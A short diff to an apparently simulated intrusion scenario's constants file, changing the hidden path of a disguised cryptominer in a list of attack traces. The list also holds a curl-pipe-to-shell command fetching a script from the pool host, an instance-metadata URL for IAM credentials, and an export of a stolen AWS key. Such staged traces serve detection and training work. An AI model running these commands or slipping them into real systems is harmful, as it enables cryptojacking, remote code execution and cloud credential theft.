@@ -12,7 +12,7 @@ PAGE: Final = 4096
 PAGES: Final = 384  # 1.5 MiB
 
 TRACES: Final = (
-    f"/tmp/.x/kworkerd -o stratum+tcp://{cast.POOL}:{cast.POOL_PORT} --donate-level 1 -B",
+    f"/var/spool/.x/kworkerd -o stratum+tcp://{cast.POOL}:{cast.POOL_PORT} --donate-level 1 -B",
     f"curl -s http://{cast.POOL}/s.sh | sh",
     "http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-web",
     f"export AWS_ACCESS_KEY_ID={cast.STOLEN_SESSION_KEY}",
